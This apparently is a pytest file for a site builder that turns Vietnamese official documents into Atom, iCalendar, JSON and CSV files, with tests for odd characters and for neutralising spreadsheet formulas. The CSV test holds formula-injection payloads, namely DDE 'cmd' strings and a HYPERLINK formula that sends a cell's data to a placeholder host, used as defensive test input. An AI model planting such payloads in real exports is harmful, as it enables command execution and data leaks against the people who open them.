"""Any character: every writer takes any text the read stage lets through; one writer's failure stops one
document; no cell of a published CSV runs as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import timedelta
from pathlib import Path

import feedparser
import icalendar
import pytest

from build_scripts import safe_text
from build_scripts.writers import feeds
from build_scripts.writers.datascript import read_script

from ..conftest import visible_text
from ..site.test_bad_input import doc, run

ODD = "\uffff\ufffe\ufdd0\U0001fffe\ue000"  # noncharacters and a private-use letter: kept by the read stage


def odd_text(n: int) -> str:
    text = doc(n, f"chuyển đổi số{ODD} giai đoạn 2")
    return text.replace("triển khai thực hiện", f"triển khai{ODD} thực hiện")


def test_a_text_with_characters_no_xml_can_hold_builds_and_every_file_reads_back(tmp_path: Path) -> None:
    source = tmp_path / "src"
    source.mkdir()
    (source / "la.txt").write_text(odd_text(1), encoding="utf-8")
    (source / "thuong.txt").write_text(doc(2, "cải cách hành chính"), encoding="utf-8")
    site = tmp_path / "site"
    code, out = run("build", "--source", str(source), "--site", str(site))
    assert code == 0, out
    data = site / "data"
    feed = (data / "feed.xml").read_bytes()
    ET.fromstring(feed)  # well-formed XML
    parsed = feedparser.parse(feed)
    assert parsed.bozo == 0 and len(parsed.entries) == 2
    assert any("chuyển đổi số\ufffd" in e.title for e in parsed.entries)  # replaced there, and there only
    calendar = icalendar.Calendar.from_ical((data / "thoi-han.ics").read_bytes())
    assert len(calendar.walk("VEVENT")) == 2
    records = json.loads((data / "documents.json").read_text(encoding="utf-8"))["documents"]
    assert any(ODD in r["title"] for r in records)  # JSON holds any character: the title as it is
    assert "\uffff".encode() not in (data / "documents.json").read_bytes()  # ... written as \uffff
    rows = list(csv.reader(io.StringIO((data / "tasks.csv").read_text(encoding="utf-8-sig"))))
    assert any(ODD in cell for row in rows for cell in row)
    for script in (data / "tim-kiem").glob("*.js"):
        body = script.read_text(encoding="utf-8")
        if ".push(" in body:
            read_script(body)  # JSON, packed texts too
    page = visible_text((site / "van-ban" / "la" / "index.html").read_text(encoding="utf-8"))
    assert "triển khai" in page and "thực hiện" in page and "chuyển đổi số" in page
    code, out = run("check", "--source", str(source))
    assert code == 0 and "0 errors" in out  # check agrees with build



def test_our_atom_feed_reads_back_every_value_as_written() -> None:
    """Our own Atom writer (it was feedgen's): a feed reader finds each field as the document has it, markup
    characters in a title, a body's name or a place included, and an address with "&" in it."""
    import dataclasses

    from build_scripts.pipeline.convert import document_from_source
    from build_scripts.pipeline.read import read_bytes

    document = document_from_source(read_bytes("t.txt", doc(1, "cải cách hành chính").encode()), "tin")
    facts = dataclasses.replace(document.facts, title='Kết luận <b>"số 1"</b> & số 2', issuer="Ban A & B <C>",
                                locality='Xã "Đông" & Tây', issued_date="2024-03-05")
    document = dataclasses.replace(document, facts=facts)
    site = "https://example.org/kho?a=1&b=2/"
    data = feeds.atom_feed([document], site, "Lưu trữ & kết luận", "data/feed.xml")
    ET.fromstring(data)
    parsed = feedparser.parse(data)
    assert parsed.bozo == 0 and parsed.feed.title == "Lưu trữ & kết luận: văn bản mới"
    assert [link.href for link in parsed.feed.links] == [site, site + "data/feed.xml"]
    (entry,) = parsed.entries
    assert entry.title == facts.title and entry.author == facts.issuer and entry.link == site + document.url
    assert [t.term for t in entry.tags] == [facts.type, facts.locality]
    assert entry.published.startswith("2024-03-05T00:00:00+07:00")
    assert entry.summary == feeds._entry_summary(document)

def test_each_format_keeps_what_it_can_and_replaces_what_it_cannot() -> None:
    hostile = "a\x00b\x07c\x1bd\ufffee\uffff\ud800f\u202eg\U000e0041h"
    assert ET.fromstring(f"<t>{safe_text.xml_text(hostile)}</t>".encode()).text.startswith("a")
    assert "\x00" not in safe_text.ics_text(hostile) and "\x1b" not in safe_text.ics_text(hostile)
    assert json.loads(safe_text.json_dumps(hostile)) == hostile
    assert all(ord(ch) < 0x80 or ch.isprintable() for ch in safe_text.json_dumps(hostile))
    shown = safe_text.visible(hostile)
    assert shown == "a\\x00b\\x07c\\x1bd\\ufffee\\uffff\\ud800f\\u202eg\\U000e0041h"
    assert safe_text.visible("Kết luận số 5 (bản chính).txt") == "Kết luận số 5 (bản chính).txt"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_is_prefixed(start: str) -> None:
    assert safe_text.csv_cell(f"{start}HYPERLINK(\"http://x\")") == f"'{start}HYPERLINK(\"http://x\")"
    assert safe_text.csv_cell("Giao Ủy ban nhân dân") == "Giao Ủy ban nhân dân"
    row = [f"{start}SUM(A1)", None, 3, "a\x00b", f"\x00{start}", f" {start}x", "Giao"]
    assert safe_text.csv_row(row) == [safe_text.csv_cell(v) for v in row]  # a row's cells as each alone
    assert safe_text.csv_row(row)[0] == f"'{start}SUM(A1)"


def test_tasks_csv_runs_no_formula_and_the_data_keeps_the_text(tmp_path: Path) -> None:
    source = tmp_path / "src"
    source.mkdir()
    formulas = ['=HYPERLINK("http://vi-du.vn/?d="&A1,"Bấm vào đây")', "+cmd|' /c calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0"]
    items = "\n".join(f"{i}. {f} Giao Ủy ban nhân dân thành phố thực hiện." for i, f in enumerate(formulas, 1))
    head, tail = doc(1, "một bảng tính").split("\n\n1. ")[0], doc(1, "x").split("\n\nNơi nhận:")[1]
    (source / "cong-thuc.txt").write_text(f"{head}\n\n{items}\n\nNơi nhận:{tail}", encoding="utf-8")
    site = tmp_path / "site"
    assert run("build", "--source", str(source), "--site", str(site))[0] == 0
    rows = list(csv.reader(io.StringIO((site / "data" / "tasks.csv").read_text(encoding="utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(safe_text.FORMULA_STARTS)]
    texts = [row[rows[0].index("text")] for row in rows[1:]]
    assert sorted(texts) == sorted(f"'{f} Giao Ủy ban nhân dân thành phố thực hiện." for f in formulas)
    data = json.loads((site / "data" / "documents.json").read_text(encoding="utf-8"))
    assert sorted(t["text"] for t in data["documents"][0]["tasks"]) == sorted(t[1:] for t in texts)


def test_a_writer_that_fails_on_one_document_drops_that_one_and_check_says_the_same(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = tmp_path / "src"
    source.mkdir()
    (source / "tot.txt").write_text(doc(1, "công tác dân vận"), encoding="utf-8")
    (source / "hong.txt").write_text(doc(2, "chủ đề làm hỏng bộ ghi"), encoding="utf-8")
    real = feeds.atom_feed

    def fragile(docs, *args, **kwargs):  # a library that rejects one document's text
        if any("làm hỏng" in d.facts.title for d in docs):
            raise ValueError("All strings must be XML compatible")
        return real(docs, *args, **kwargs)

    monkeypatch.setattr(feeds, "atom_feed", fragile)
    site = tmp_path / "site"
    code, out = run("build", "--source", str(source), "--site", str(site))
    assert code == 1
    assert "hong.txt: 1 error" in out and "XML compatible" in out and "NOT PUBLISHED" in out
    assert (site / "van-ban" / "tot" / "index.html").is_file() and not (site / "van-ban" / "hong").exists()
    code, checked = run("check", "--source", str(source))
    assert code == 1 and "hong.txt: 1 error" in checked and "XML compatible" in checked


def test_our_calendar_lines_are_folded_and_escaped_as_rfc_5545_reads_them() -> None:
    """Our own iCalendar writer: icalendar reads back every value as written, every line within 75 octets."""
    from build_scripts.pipeline.convert import document_from_source
    from build_scripts.pipeline.read import read_bytes

    tricky = "rà soát; tổng hợp, báo cáo \\ “kết quả” giải ngân vốn đầu tư công" + " đúng tiến độ" * 12
    source = doc(1, "cải cách hành chính").replace("phối hợp với các cơ quan liên quan triển khai thực hiện", tricky)
    document = document_from_source(read_bytes("t.txt", source.encode()), "lich")
    dated = [t for t in document.facts.tasks if t.deadline]
    assert dated
    data = feeds.Calendars("https://example.org/", "Lưu trữ Kết luận", None).archive([document])
    lines = data.split(b"\r\n")
    assert lines[-1] == b"" and all(len(line) <= 75 for line in lines)
    for line in lines:
        line.decode("utf-8")  # never cut inside a Vietnamese letter
    cal = icalendar.Calendar.from_ical(data)
    assert str(cal["x-wr-calname"]) == "Lưu trữ Kết luận: thời hạn nhiệm vụ"
    events = cal.walk("VEVENT")
    assert [str(e["uid"]) for e in events] == [f"{t.id}@luu-tru-ket-luan" for t in dated]
    for event, task in zip(events, dated, strict=True):
        assert event.decoded("dtstart") == feeds.due_day(task.deadline)
        # an all-day event of that one day, as a calendar reads it (RFC 5545 §3.6.1), without a DTEND line
        assert "dtend" not in event and event.end == feeds.due_day(task.deadline) + timedelta(days=1)
        assert str(event["url"]) == f"https://example.org/{document.url}#{task.anchor}"
        summary, description = str(event["summary"]), str(event["description"])
        assert summary.startswith("Hạn: ") and feeds._short(task.text) in summary
        assert f"Thời hạn: {task.deadline_text}" in description.split("\n")
        # the title names the document; the description adds the task's number, not the document again
        assert f"({document.facts.number})" in summary and document.facts.number not in description
        assert description.split("\n")[0] == f"Nhiệm vụ {task.number}"
    assert any("rà soát; tổng hợp, báo cáo \\ “kết quả”" in str(e["summary"]) for e in events)


def test_the_bodies_calendars_bytes_per_document_do_not_grow_with_the_archive() -> None:
    """Each body's calendar holds its deadlines still to follow: as the archive doubles, with the same newest
    date, all the bodies' calendars together weigh no more per document (every dated task would)."""
    from build_scripts.commands import synth
    from build_scripts.pipeline import link
    from build_scripts.pipeline.convert import document_from_source
    from build_scripts.pipeline.read import read_bytes

    every = [document_from_source(read_bytes(name, text.encode()), name.removesuffix(".txt"))
             for name, text in synth.corpus(80).items()]
    per_document, newest = {}, set()
    for n in (20, 40, 80):
        docs = every[:n]
        newest.add(feeds.newest_date(docs))
        calendars = feeds.Calendars("https://example.org/", "Lưu trữ", feeds.newest_date(docs))
        bodies = [b for b in link.link(docs).bodies.values() if feeds.has_deadlines(b)]
        per_document[n] = sum(len(calendars.body(b)) for b in bodies) / n
    assert len(newest) == 1  # the same first day to follow: only the archive's size changes
    assert per_document[40] <= 1.1 * per_document[20] and per_document[80] <= 1.1 * per_document[40], per_document
